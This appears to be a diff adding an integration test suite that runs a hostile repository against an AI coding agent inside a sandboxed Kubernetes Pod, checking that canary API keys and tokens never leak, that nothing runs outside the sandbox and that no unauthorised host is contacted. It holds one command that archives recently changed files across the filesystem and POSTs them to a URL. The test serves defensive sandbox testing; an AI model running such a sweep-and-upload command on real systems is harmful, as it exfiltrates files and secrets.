@@ -1,0 +1,156 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { sampleRoute, sampleTask } from '@anton/testing/samples';
+import { ENVIRONMENT_CASES } from './hostile/environment.cases';
+import { FILES_CASES } from './hostile/files.cases';
+import { command, type HostileCase } from './hostile/hostile-case';
+import { NETWORK_CASES } from './hostile/network.cases';
+import { NEXT_COMMANDS_CASES } from './hostile/next-commands.cases';
+import { PROC_CASES } from './hostile/proc.cases';
+import { PROCESSES_CASES } from './hostile/processes.cases';
+import { SOCKET_CASES } from './hostile/socket.cases';
+import { bundleDriver } from './support/hostile/bundle-driver';
+import {
+  allowOnly,
+  hostAddress,
+  listenAt,
+  takeEvidence,
+  type EvidenceServer,
+  type Listener,
+} from './support/hostile/hostile-world';
+import { originBundle } from './support/hostile/origin-bundle';
+import { RunnerPod, type PodEnd } from './support/hostile/runner-pod';
+import { findImageBuilder } from './support/images/image-builder';
+import { findCluster } from './support/kubernetes/cluster';
+import { TestNamespace } from './support/kubernetes/test-namespace';
+import { CANARIES, canaryIn } from './support/runner/canaries';
+import { PAY_FILES } from './support/runner/runner-world';
+
+const cluster = findCluster();
+const builder = findImageBuilder();
+const missing = cluster.missing ?? builder.missing;
+const suite = missing === null ? describe : describe.skip;
+const BUILD_MS = 900_000;
+const RUN_MS = 600_000;
+
+const SECRETS = {
+  'ai-secrets': { anthropic_api_key: CANARIES.ANTHROPIC_API_KEY, openai_api_key: CANARIES.OPENAI_API_KEY },
+  'github-secrets': { pat: CANARIES.GITHUB_TOKEN },
+};
+
+/** Everything in the sandbox that is newer than its tools, handed over as one archive. */
+const collect = (url: string): HostileCase =>
+  command(
+    'collect',
+    `find / -xdev \\( -path /proc -o -path /sys -o -path /anton \\) -prune -o -type f -newer /anton/tini -size -64M -print0 2>/dev/null > /tmp/changed; find /checkout /tmp /sock -type f -size -64M -print0 >> /tmp/changed; tar -cf /tmp/changed.tar --null -T /tmp/changed 2>/dev/null; node -e "fetch('${url}', { method: 'POST', body: require('node:fs').readFileSync('/tmp/changed.tar') }).then(() => console.log('collected'))"`,
+    {},
+    120,
+  );
+
+/** Which cases share a Pod; each group ends with a look at all that the sandbox holds. */
+const GROUPS = [
+  ['looks around', [...ENVIRONMENT_CASES, ...PROC_CASES, ...FILES_CASES]],
+  ['reaches out', [...NETWORK_CASES, ...SOCKET_CASES, ...NEXT_COMMANDS_CASES]],
+  ['stays and fills', PROCESSES_CASES],
+] as const;
+
+interface Line {
+  readonly name: string;
+  readonly text: string;
+}
+
+suite(
+  `a hostile repository in its Pod${missing === null ? '' : ` (${missing})`}`,
+  { timeout: RUN_MS },
+  () => {
+    let namespace: TestNamespace;
+    let host: string;
+    let listener: Listener;
+    let evidence: EvidenceServer;
+    let images: { readonly runnerImage: string; readonly sandboxImage: string };
+
+    beforeAll(async () => {
+      namespace = await TestNamespace.create(cluster.open().config, SECRETS);
+      host = await hostAddress(namespace);
+      [listener, evidence] = [await listenAt(host), await takeEvidence(host)];
+      await allowOnly(namespace, host, [evidence.port]);
+      const { base, build } = builder.open();
+      const runner = build('runner', '.', '--target', 'runner', '--build-arg', `NODE=${base}`);
+      images = {
+        runnerImage: build('hostile-runner', 'test/support/hostile/image', '--build-arg', `RUNNER=${runner}`),
+        sandboxImage: build('sandbox-node', 'images/sandbox-node', '--build-arg', `BASE=${base}`),
+      };
+    }, BUILD_MS);
+    afterAll(async () => {
+      await listener.close();
+      await evidence.close();
+      await namespace.delete();
+    });
+
+    describe.each(GROUPS)('that %s', (group, cases) => {
+      let end: PodEnd;
+      let pod: RunnerPod;
+      const answers = new Map<string, string>();
+      const holdings = `/${group.replaceAll(' ', '-')}`;
+
+      beforeAll(async () => {
+        const place = { host, port: listener.port };
+        const task = sampleTask('PAY-1');
+        const repository = { id: 'pay', url: 'file:///trusted/origin.git', branch: 'main' };
+        const played = [...cases, collect(evidence.url + holdings)].map(({ name, steps }) => ({
+          name,
+          steps: steps(place),
+        }));
+        pod = await RunnerPod.start(namespace, {
+          ...images,
+          environment: { ANTON_TEST_EVIDENCE_URL: `${evidence.url}/left${holdings}` },
+          context: {
+            'task.json': JSON.stringify(task),
+            'route.json': JSON.stringify(sampleRoute(task, { repository, skills: [] })),
+            'origin.bundle': originBundle(PAY_FILES),
+            'driver.mjs': await bundleDriver(),
+            'cases.json': JSON.stringify(played),
+          },
+        });
+        end = await pod.end();
+        for (const line of end.logs.agent.split('\n').filter((text) => text.startsWith('{"name"'))) {
+          const { name, text } = JSON.parse(line) as Line;
+          answers.set(name, `${answers.get(name) ?? ''}${text}\n`);
+        }
+      }, RUN_MS);
+      afterAll(async () => pod.remove());
+
+      it.each(cases)('$name', ({ name, says, never }) => {
+        const said = answers.get(name);
+        if (said === undefined)
+          throw new Error(`it was not played: ${JSON.stringify([end.state, end.logs])}`);
+        if (says !== undefined) expect(said).toMatch(says);
+        if (never !== undefined) expect(said).not.toMatch(never);
+        expect(canaryIn(said)).toBeNull();
+      });
+
+      it('gets no byte of a canary out of the agent', () => {
+        const held = evidence.received.get(holdings);
+        expect(held?.length).toBeGreaterThan(1_000);
+        const places = {
+          ...end.logs,
+          messages: end.messages.join('\n'),
+          object: end.object,
+          state: end.state,
+        };
+        for (const [place, text] of Object.entries({ ...places, held: held?.toString('latin1') ?? '' }))
+          expect([place, canaryIn(text)]).toEqual([place, null]);
+      });
+
+      it('executes nothing outside of its sandbox', () => {
+        const left = JSON.parse(evidence.received.get(`/left${holdings}`)?.toString() ?? '{}') as {
+          marks?: unknown;
+        };
+        expect(left.marks).toEqual([]);
+      });
+
+      it('is heard by nobody who is not allowed', () => expect(listener.connections()).toBe(0));
+
+      it('cannot say how its run ended', () => expect(end.state).not.toContain('forged'));
+    });
+  },
+);
